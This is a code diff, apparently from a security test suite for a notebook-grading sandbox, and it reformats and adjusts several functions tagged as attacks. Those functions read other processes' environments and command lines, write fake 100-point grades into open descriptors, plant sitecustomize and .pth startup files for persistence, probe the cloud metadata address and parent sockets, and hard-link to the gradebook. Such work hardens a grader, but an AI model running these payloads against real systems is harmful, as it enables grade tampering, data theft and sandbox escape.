@@ -194,7 +194,8 @@ def environment_and_arguments(folder: Path) -> None:
                 "maps", "auxv", "uid_map", "attr/current"):
             try:
                 with open("/proc/self/" + name, "rb") as file:
-                    print("#", name, file.read(100_000).replace(b"\0", b"\n").decode("utf-8", "replace"))
+                    print("#", name,
+                        file.read(100_000).replace(b"\0", b"\n").decode("utf-8", "replace"))
             except OSError as error:
                 print(name, error)
         import ctypes
@@ -217,15 +218,18 @@ def other_processes(folder: Path) -> None:
         r"""
         import os
         for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
-            for name in ("cmdline", "environ", "status", "mountinfo", "stack", "net/unix", "net/tcp"):
+            for name in ("cmdline", "environ", "status",
+                "mountinfo", "stack", "net/unix", "net/tcp"):
                 try:
                     with open(f"/proc/{pid}/{name}", "rb") as file:
-                        print("#", pid, name, file.read(20_000).replace(b"\0", b"\n").decode("utf-8", "replace"))
+                        print("#", pid, name,
+                            file.read(20_000).replace(b"\0", b"\n").decode("utf-8", "replace"))
                 except OSError as error:
                     print("#", pid, name, error)
             for name in ("cwd", "exe", "root"):
                 try:
-                    print(pid, name, os.readlink(f"/proc/{pid}/{name}"), os.listdir(f"/proc/{pid}/{name}/"))
+                    print(pid, name, os.readlink(f"/proc/{pid}/{name}"),
+                        os.listdir(f"/proc/{pid}/{name}/"))
                 except OSError as error:
                     print(pid, name, error)
             try:
@@ -274,7 +278,8 @@ def open_descriptors(folder: Path) -> None:
                 elif fd > 2 and not target.startswith("anon_inode"):
                     os.set_blocking(fd, False)
                     tried("read", os.read, fd, 20_000)
-                    tried("write", os.write, fd, b'{"points": 100, "status": "know-descriptor-written"}')
+                    tried("write", os.write, fd,
+                        b'{"points": 100, "status": "know-descriptor-written"}')
                     if stat.S_ISSOCK(mode):
                         peer = socket.socket(fileno=os.dup(fd))
                         tried("name", peer.getsockname)
@@ -299,8 +304,10 @@ def leave_for_later(folder: Path) -> None:
             r"""
             import json, os, site, sys, tempfile, threading
             heard = ["@MARK@-left-behind"]
-            places = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", os.getcwd(), sys.prefix,
-                os.path.expanduser("~/.cache"), os.path.expanduser("~/.ipython"), tempfile.gettempdir(),
+            places = ["/tmp", "/var/tmp", "/dev/shm", "/run",
+                "/dev/mqueue", os.getcwd(), sys.prefix,
+                os.path.expanduser("~/.cache"), os.path.expanduser("~/.ipython"),
+                    tempfile.gettempdir(),
                 "@FOLDER@", "@FOLDER@/..", "@FOLDER@/../..", *site.getsitepackages(), *sys.path]
             def leave(info=None):
                 heard.append(getattr(info, "raw_cell", ""))
@@ -337,7 +344,8 @@ def leave_code(folder: Path) -> None:
             import glob, importlib.util, os, site, sys
             text = "open('/tmp/know-left-code-ran', 'w').close()\n"
             names = ["know.pth", "sitecustomize.py", "usercustomize.py", "ipykernel_launcher.py"]
-            places = [*site.getsitepackages(), site.getusersitepackages(), *sys.path, sys.prefix + "/bin",
+            places = [*site.getsitepackages(),
+                site.getusersitepackages(), *sys.path, sys.prefix + "/bin",
                 os.path.expanduser("~/.ipython/profile_default/startup"), "/etc/profile.d"]
             for place in places:
                 for name in names:
@@ -445,7 +453,8 @@ def warm_parent(folder: Path) -> None:
                     peer.settimeout(0.3)
                     try:
                         peer.connect(name.replace("@", "\0", 1) if name[0] == "@" else name)
-                        peer.send(json.dumps({"command": ["id"], "argv": ["id"], "fork": True}).encode())
+                        peer.send(
+                            json.dumps({"command": ["id"], "argv": ["id"], "fork": True}).encode())
                         print("CONNECTED", name, peer.recv(1000))
                     except OSError as error:
                         print(name, error)
@@ -473,7 +482,8 @@ def network(folder: Path) -> None:
         """
         import socket, urllib.request
         socket.setdefaulttimeout(1)
-        hosts = ["127.0.0.1", "::1", "1.1.1.1", "2606:4700:4700::1111", "169.254.169.254", "10.0.2.2"]
+        hosts = ["127.0.0.1", "::1", "1.1.1.1",
+            "2606:4700:4700::1111", "169.254.169.254", "10.0.2.2"]
         for host in hosts:
             for port in (22, 53, 80, 443, 5432, 8786, 8787, 8888):
                 family = socket.AF_INET6 if ":" in host else socket.AF_INET
@@ -483,7 +493,8 @@ def network(folder: Path) -> None:
                         print("CONNECTED", host, port)
                 except OSError as error:
                     print(host, port, error)
-        for kind, protocol in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 17), (socket.SOCK_DGRAM, 1)):
+        for kind, protocol in (
+            (socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 17), (socket.SOCK_DGRAM, 1)):
             try:
                 with socket.socket(socket.AF_INET, kind, protocol) as client:
                     print("SENT", client.sendto(b"@MARK@", ("1.1.1.1", 53)))
@@ -656,13 +667,11 @@ def linked_folder(folder: Path) -> None:
     (folder / "bayescnn").symlink_to("/")
 
 
-@attack(
-    23, "Data files are hard links to the gradebook, to a neighbour's notebook, to /etc/passwd."
-)
+@attack(23, "Data files are hard links to the gradebook and to a neighbour's notebook.")
 def hard_linked_data(folder: Path) -> None:
     """Have other files copied by a name that is as good as their own."""
     course = folder.resolve().parents[min(2, len(folder.resolve().parents) - 1)]
-    wanted = [course / "gradebook.db", *neighbours(folder)[:1], Path("/etc/passwd")]
+    wanted = [course / "gradebook.db", *neighbours(folder)[:1]]
     for index, target in enumerate([*wanted, folder / NOTEBOOK]):
         # Another file system, or a rule against such links, may forbid it.
         with contextlib.suppress(OSError):
@@ -742,8 +751,10 @@ def hostile_names(folder: Path) -> None:
 @attack(23, "Folders lie six hundred deep in each other.")
 def deep_folders(folder: Path) -> None:
     """Have whoever walks the tree run out of stack or path."""
-    path = folder.joinpath(*["d"] * 600)
-    path.mkdir(parents=True)
+    path = folder
+    for _ in range(600):  # one by one: making all parents at once is recursive, too
+        path /= "d"
+        path.mkdir()
     (path / "data.txt").write_text("deep", encoding="utf-8")
 
 
